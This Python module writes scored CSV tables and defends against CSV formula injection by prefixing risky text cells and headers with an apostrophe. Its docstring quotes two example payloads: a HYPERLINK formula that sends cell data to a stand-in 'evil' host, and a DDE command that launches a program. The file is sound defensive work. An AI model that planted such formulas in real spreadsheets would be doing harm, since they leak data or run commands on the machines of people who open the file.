"""Tables the risk side writes for spreadsheets (scored CSVs), safe to open in Excel/WPS.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab / line break before
one) as a formula: a project id such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`
taken verbatim from an uploaded CSV would run on the reader's machine (CSV injection, OWASP).
Every text cell and header that starts with one of those characters (or their full-width forms,
which Excel in a Chinese locale also accepts) is written with a leading apostrophe, which
spreadsheets show as text. Numbers are written as numbers: a negative effect stays -0.12.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralised(value: Any) -> Any:
    """`value` with a leading apostrophe if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and headers cannot start a formula."""
    safe = frame.rename(columns=lambda c: neutralised(str(c)))
    for column in safe.columns:
        if not pd.api.types.is_numeric_dtype(safe[column]):  # text is `str` or `object`
            safe[column] = safe[column].map(neutralised)
    return safe


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write `frame` as UTF-8 with a BOM (so Excel reads Chinese text), formulas neutralised.

    CRLF line ends: the csv writer then quotes any cell holding a CR or LF, so a stray `\r`
    in an uploaded id cannot end a row early."""
    safe = spreadsheet_safe(frame)
    safe.to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path
